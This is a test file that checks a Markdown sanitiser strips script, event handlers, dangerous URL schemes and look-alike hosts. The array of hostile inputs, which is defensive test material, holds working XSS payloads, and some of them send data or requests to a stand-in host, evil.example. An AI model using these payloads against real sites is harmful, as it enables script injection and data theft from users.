// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { codeHtml, proseHtml } from "../../src/lib/markdown/sanitise";

function nodes(html: string): Element[] {
  const box = document.createElement("div");
  box.innerHTML = html;
  return [...box.querySelectorAll("*")];
}

const TAGS = new Set(
  "P BR HR STRONG EM DEL CODE PRE SPAN UL OL LI BLOCKQUOTE A KBD SUB SUP H1 H2 H3 H4 H5 H6 TABLE THEAD TBODY TR TH TD".split(" "),
);
const ATTRIBUTES = new Set(["class", "start", "data-link", "role", "tabindex", "rel", "aria-label"]);

const HOSTILE = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)><circle/></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD4=">',
  '<form action="https://evil.example"><input name=a><button>Send</button></form>',
  "<style>* { background: url(https://evil.example/x) }</style>",
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">over everything</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](tauri://localhost)",
  "[x](ipc://localhost/rpc)",
  "![x](https://evil.example/pixel.png?secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  '<picture><source srcset="https://evil.example/x"></picture>',
  '<video src="https://evil.example/x" autoplay></video>',
  '<a href="https://evil.example" target="_blank" onclick="alert(1)">x</a>',
  '<div id="app" data-testid="chat-send" class="btn primary">Send</div>',
  '<button data-testid="stop-thor">Stop</button>',
  "<details open ontoggle=alert(1)>",
  '<textarea autofocus onfocus="alert(1)"></textarea>',
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "```html\n<script>alert(1)</script>\n```",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  "- [x] done <input type=checkbox onclick=alert(1)>",
];

describe("hostile Markdown", () => {
  it.each(HOSTILE)("%s can do nothing", (text) => {
    for (const element of nodes(proseHtml(text))) {
      expect(TAGS, element.outerHTML).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(ATTRIBUTES, element.outerHTML).toContain(name);
        if (name === "data-link") expect(value).toMatch(/^(https?|mailto):/i);
        if (name === "class") expect(value).toMatch(/^(hljs-\S+|no-picture|target|\w+_)( (hljs-\S+|\w+_))*$/);
      }
    }
  });

  it.each(HOSTILE)("%s can do nothing inside a code block", (text) => {
    for (const lang of ["", "html", "xml", "javascript"]) {
      const found = nodes(codeHtml(text, lang));
      expect(found.every((e) => e.tagName === "SPAN")).toBe(true);
      const box = document.createElement("div");
      box.innerHTML = codeHtml(text, lang);
      // Nothing is lost either: code is shown as it was written.
      expect(box.textContent).toBe(text);
    }
  });
});

describe("links", () => {
  it("go nowhere, show their host and can be copied", () => {
    const link = nodes(proseHtml("See [the bank](https://evil.example/login?next=bank)."))[1];
    expect(link?.tagName).toBe("A");
    expect(link?.hasAttribute("href")).toBe(false);
    expect(link?.getAttribute("data-link")).toBe("https://evil.example/login?next=bank");
    expect(link?.getAttribute("rel")).toContain("noopener");
    expect(link?.textContent).toBe("the bank (evil.example)");
    expect(link?.getAttribute("aria-label")).toContain("copy the link https://evil.example/login?next=bank");
  });

  it("that already show their address do not show it twice", () => {
    expect(nodes(proseHtml("<https://example.org/a>"))[1]?.textContent).toBe("https://example.org/a");
  });

  it("a look-alike host is shown as it is resolved", () => {
    expect(proseHtml("[x](https://ex\u0430mple.org/)")).toContain("xn--");
  });
});

describe("honest Markdown", () => {
  it("keeps its form", () => {
    const html = proseHtml("# Title\n\nA **bold** `code` and ~~gone~~.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n3. three\n4. four\n\n> said");
    for (const tag of ["<h1>", "<strong>", "<code>", "<del>", "<table>", '<ol start="3">', "<blockquote>"]) expect(html).toContain(tag);
  });

  it("shows a picture as words, and a task as a sign", () => {
    expect(proseHtml("![a cat](https://x.example/c.png)")).toContain("[Picture: a cat]");
    expect(proseHtml("- [x] done\n- [ ] open")).toMatch(/\u2611[\s\S]*\u2610/);
  });

  it("colours code it knows and leaves code it does not", () => {
    expect(codeHtml("fn main() {}", "rust")).toContain("hljs-keyword");
    expect(codeHtml("<b>&", "nonsense")).toBe("&lt;b&gt;&amp;");
  });
});
